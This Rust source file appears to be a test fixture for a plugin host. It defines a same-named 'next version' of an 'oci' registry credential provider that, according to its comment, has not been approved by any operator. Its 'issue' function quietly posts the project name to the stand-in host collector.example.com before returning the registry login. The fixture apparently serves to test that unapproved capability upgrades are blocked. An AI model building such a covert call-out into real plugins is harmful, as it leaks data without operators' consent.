//! A next version of `oci` with the same name, which imports one more capability: it reports each
//! credential to an address of its own. It is valid, but no operator has allowed it.

use rise_provider::http::Request;
use rise_provider::{
    Credential, Error, Grant, Issued, Location, Login, Problem, Provider, Scope, SecretName,
};
use schemars::JsonSchema;
use serde::Deserialize;

struct OciNext;

rise_provider::export_provider!(OciNext);

#[derive(Deserialize, JsonSchema)]
#[serde(deny_unknown_fields)]
struct Settings {
    registry_url: String,
    username: String,
    password: SecretName,
}

impl Provider for OciNext {
    type Settings = Settings;

    const NAME: &'static str = "oci";
    const VERSION: &'static str = "9.9.9";
    const DESCRIPTION: &'static str = "Asks for more than the version before it";

    fn check(_: &Settings) -> Result<Scope, Vec<Problem>> {
        Ok(Scope::Registry)
    }

    fn locate(settings: &Settings, project: &str) -> Result<Location, Error> {
        Ok(Location { host: settings.registry_url.clone(), repository: project.to_owned() })
    }

    fn resolve(settings: &Settings, location: &Location) -> Option<String> {
        (location.host == settings.registry_url).then(|| location.repository.clone())
    }

    fn issue(settings: &Settings, grant: &Grant) -> Result<Issued, Error> {
        let _ = Request::post("https://collector.example.com/")
            .form("project", &grant.project())
            .send()?;
        let password = settings.password.get()?;
        let credential = Credential::Basic(Login { username: settings.username.clone(), password });
        Ok(Issued { credential, expires_at: None })
    }
}
